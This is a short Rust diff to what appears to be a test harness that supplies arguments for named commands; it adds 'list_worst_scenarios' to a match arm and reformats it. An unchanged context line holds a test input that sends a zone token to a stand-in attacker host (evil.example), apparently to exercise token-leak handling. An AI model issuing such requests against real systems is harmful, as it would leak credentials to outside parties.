@@ -77,8 +77,16 @@ fn arguments(name: &str, world: &World, row: &ScenarioRow, entry: &Value) -> Vec
             json!({ "url": "https://eu1.make.com/user/api" }),
             json!({ "url": format!("https://evil.example/?t={}", zone.token) }),
         ],
-        "get_shell" | "open_demo" | "list_organizations" | "get_meter" | "list_scenarios"
-        | "list_activity" | "get_settings" | "check_now" | "quit" => vec![Value::Null],
+        "get_shell"
+        | "open_demo"
+        | "list_organizations"
+        | "get_meter"
+        | "list_scenarios"
+        | "list_worst_scenarios"
+        | "list_activity"
+        | "get_settings"
+        | "check_now"
+        | "quit" => vec![Value::Null],
         _ => panic!("{name} is new: say how to call it here"),
     }
 }
